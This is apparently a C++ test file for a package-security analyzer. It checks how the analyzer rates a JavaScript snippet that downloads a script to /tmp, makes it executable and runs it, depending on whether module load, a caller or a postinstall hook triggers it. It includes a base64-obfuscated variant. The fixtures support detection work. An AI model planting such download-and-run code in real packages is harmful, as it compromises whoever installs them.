// When code runs: a download-write-run is high when loading the file runs it, and medium when it
// sits in a declaration that only a caller runs (a CLI command's handler), unless something is
// hidden or the package runs it at install. Snippets are hand-written and inert.
#include <catch2/catch.hpp>

#include <algorithm>

#include "analyzer/engine/analyzer.h"
#include "tests/support/engine_samples.h"

using namespace tarsier;
using test::has;

namespace {

const std::string k_imports =
    "import fs from 'node:fs';\nimport { spawn } from 'node:child_process';\n";

// Downloads a script, writes it executable and runs it.
const std::string k_fetch_write_run =
    "  const res = await fetch('https://downloads.example.invalid/tool.sh');\n"
    "  fs.writeFileSync('/tmp/tool.sh', await res.text(), { mode: 0o755 });\n"
    "  spawn('/tmp/tool.sh', [], { stdio: 'inherit' });\n";

PackageAnalysis run(const std::string& code, const std::string& scripts = "") {
  std::vector<ArchiveEntry> files = {
      {"package.json", R"({"name":"tool","version":"1.0.0","type":"module")" +
                           (scripts.empty() ? "" : R"(,"scripts":)" + scripts) + "}"},
      {"lib/cli.js", k_imports + code}};
  return test::shared_analyzer().analyze(test::sample_ref("tool"), files, {});
}

Risk dropper_level(const PackageAnalysis& a) {
  Risk level = Risk::none;
  for (const auto& f : a.findings) {
    if (f.rule == "threat-dropper") {
      level = std::max(level, f.severity);
    }
  }
  return level;
}

}  // namespace

TEST_CASE("a download-and-run that loading the file runs is high", "[engine][threats][load]") {
  SECTION("at the module's top level") {
    auto a = run(k_fetch_write_run);
    CHECK(dropper_level(a) == Risk::high);
  }
  SECTION("in a function the top level calls") {
    auto a = run("async function main() {\n" + k_fetch_write_run + "}\nmain();\n");
    CHECK(dropper_level(a) == Risk::high);
  }
  SECTION("in a function reached through another one the top level calls") {
    auto a = run("export async function fetchTool() {\n" + k_fetch_write_run +
                 "}\nconst start = async () => { await fetchTool(); };\nvoid start();\n");
    CHECK(dropper_level(a) == Risk::high);
  }
  SECTION("in a class with a static block") {
    auto a =
        run("export class Tool {\n  static { Tool.ready = Tool.get(); }\n  static async get() "
            "{\n" +
            k_fetch_write_run + "  }\n}\n");
    CHECK(dropper_level(a) == Risk::high);
  }
  SECTION("in a class the parser could not read whole") {
    auto a =
        run("export class Tool extends {\n  static async get() {\n" + k_fetch_write_run + "  }\n");
    CHECK(dropper_level(a) >= Risk::medium);
  }
  SECTION("in an exported function whose script is hidden") {
    auto a = run("export async function update() {\n" + k_fetch_write_run +
                 "  spawn(Buffer.from('L3RtcC90b29sLnNo', 'base64').toString());\n}\n");
    CHECK(dropper_level(a) == Risk::high);
  }
}

TEST_CASE("a download-and-run in a function only a caller runs is medium",
          "[engine][threats][load]") {
  SECTION("a command handler in an exported class") {
    auto a = run("export class Cli {\n  build(args) {\n    args.command('update', async () => {\n" +
                 k_fetch_write_run + "    });\n  }\n}\n");
    CHECK(dropper_level(a) == Risk::medium);
    CHECK(a.risk < Risk::high);
  }
  SECTION("an exported function") {
    auto a = run("export async function update() {\n" + k_fetch_write_run + "}\n");
    CHECK(dropper_level(a) == Risk::medium);
    CHECK(a.risk < Risk::high);
  }
  SECTION("the same function run by an install hook is critical") {
    auto a = run("export async function update() {\n" + k_fetch_write_run + "}\nupdate();\n",
                 R"({"postinstall":"node lib/cli.js"})");
    CHECK(dropper_level(a) == Risk::critical);
  }
}
